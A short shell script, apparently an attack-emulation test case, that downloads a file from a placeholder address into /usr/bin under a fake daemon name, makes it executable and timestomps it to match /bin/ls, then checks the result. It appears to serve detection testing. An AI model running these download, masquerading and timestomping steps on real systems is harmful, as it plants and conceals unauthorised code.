#!/bin/sh
. /opt/case/case.sh

curl -s http://203.0.113.10/programs/marker -o /usr/bin/dbus-monitord
chmod 755 /usr/bin/dbus-monitord
node -e 'const fs = require("fs"), s = fs.statSync("/bin/ls"); fs.utimesSync("/usr/bin/dbus-monitord", s.atime, s.mtime)'
test "$(stat -c %Y /usr/bin/dbus-monitord)" = "$(stat -c %Y /bin/ls)"
took_place
